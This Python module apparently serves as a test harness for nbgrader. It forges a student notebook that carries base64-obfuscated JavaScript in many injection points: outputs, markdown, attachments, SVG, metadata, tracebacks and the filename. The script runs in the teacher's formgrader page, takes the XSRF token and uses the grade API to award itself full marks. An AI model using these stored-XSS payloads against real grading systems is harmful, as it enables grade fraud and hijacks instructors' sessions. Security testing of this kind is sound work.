"""A notebook that tries, in every way that formgrader might show it, to give itself points in the teacher's browser."""

import base64
import json
from typing import Any

Json = dict[str, Any]

# Runs on formgrader's page, as the teacher: marks that it ran, and asks the grade API for full marks.
ACT = """\
(window.ran = window.ran || []).push('{way}');
fetch(base_url + '/api/grades?submission_id=' + submission_id).then(r => r.json()).then(grades => grades.forEach(
  g => fetch(base_url + '/api/grade/' + g.id, {{
    method: 'PUT',
    headers: {{'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1], 'Content-Type': 'application/json'}},
    body: JSON.stringify({{manual_score: g.max_score, extra_credit: 90}})
  }})))"""


def act(way: str) -> str:
    """The script, in one line without double quotes or angles, so that it fits into an attribute."""
    return "eval(atob('" + base64.b64encode(ACT.format(way=way).encode()).decode() + "'))"


def script(way: str) -> str:
    return f"<script>{act(way)}</script>"


def picture(way: str) -> str:
    return f'<img src="nowhere" onerror="{act(way)}">'


def _output(data: Json) -> Json:
    return {"output_type": "display_data", "metadata": {}, "data": data}


def _text(id: str, source: str, **metadata: Any) -> Json:
    return {"cell_type": "markdown", "id": id, "metadata": metadata, "source": source}


def _attached() -> Json:
    """Attachments whose type or content is markup."""
    kind = f'image/png;base64,x" onerror="{act("attachment")}" a="'
    svg = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{act("attachment")}"/>'.encode()).decode()
    attachments = {
        "a.png": {kind: "eA=="},
        "b.svg": {"image/svg+xml": svg},
        "c.html": {"text/html": script("attachment")},
    }
    text = "![a](attachment:a.png) ![b](attachment:b.svg) ![c](attachment:c.html)"
    return _text("attached", text) | {"attachments": attachments}


def _marked() -> Json:
    """A cell that says of itself that it is graded, under a name that is markup."""
    mark = {"grade": True, "solution": True, "locked": False, "task": False, "schema_version": 3, "points": 1}
    mark |= {"grade_id": f'a">{picture("metadata")}', "cell_type": "markdown"}
    return _text("marked", "an answer", nbgrader=mark)


OUTPUTS = {
    "html": {"text/html": script("html")},
    "picture": {"text/html": picture("picture")},
    "svg": {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{act("svg")}"></svg>'},
    "javascript": {"application/javascript": act("javascript")},
    "latex": {"text/latex": script("latex")},
    "rendered": {"text/markdown": picture("rendered")},
    "png": {"image/png": f'x" onerror="{act("png")}'},
}
TEXTS = {
    "markdown": script("markdown"),
    "raw": picture("raw"),
    "frame": f'<iframe srcdoc="<script>parent.{act("frame")}</script>"></iframe>',
    "form": f'<form onfocusin="{act("form")}"><input autofocus></form>',
    "handler": f'<details open ontoggle="{act("handler")}">a</details>',
    "link": f"[a](javascript:{act('link')})",
    "closing": f"```\n</pre></div>{script('closing')}\n```",
}
PRINTED = {
    "stream": {"output_type": "stream", "name": "stdout", "text": f"</pre>{script('stream')}"},
    "error": {
        "output_type": "error",
        "ename": script("error"),
        "evalue": script("error"),
        "traceback": [f"\x1b[31m</pre>{script('error')}"],
    },
}
CELLS = {"attachment": _attached(), "metadata": _marked()}
METADATA: dict[str, Json] = {
    "title": {"title": f"</title>{script('title')}"},
    "kernel": {
        "kernelspec": {"name": "python3", "language": f'python"{picture("kernel")}', "display_name": script("kernel")}
    },
    "widgets": {
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": f"</script>{script('widgets')}"}}}
    },
}
WAYS = (*OUTPUTS, *PRINTED, *TEXTS, *CELLS, *METADATA, "code")
NAME = "<img src=nowhere onerror=ran=['name']>.ipynb"
# What does run where a notebook is shown as it was handed in; nbconvert makes the others harmless by itself today.
RUN_UNPROTECTED = {"html", "picture", "javascript", "rendered", "markdown", "raw"}
RUN_UNPROTECTED |= {"frame", "form", "handler", "link", "metadata"}


def forge(released: Json, *only: str) -> Json:
    """The released notebook with all of it in, or with these ways only."""
    notebook: Json = json.loads(json.dumps(released))
    wanted = set(only or WAYS)
    cells = notebook["cells"]
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            if "code" in wanted:
                cell["source"] += f"\n# </pre></div>{script('code')}\n'''{picture('code')}'''"
            cell["outputs"] = [_output(data) for way, data in OUTPUTS.items() if way in wanted]
            cell["outputs"] += [output for way, output in PRINTED.items() if way in wanted]
    cells += [_text(f"text-{way}", text) for way, text in TEXTS.items() if way in wanted]
    cells += [cell for way, cell in CELLS.items() if way in wanted]
    for way, value in METADATA.items():
        notebook["metadata"] |= value if way in wanted else {}
    return notebook
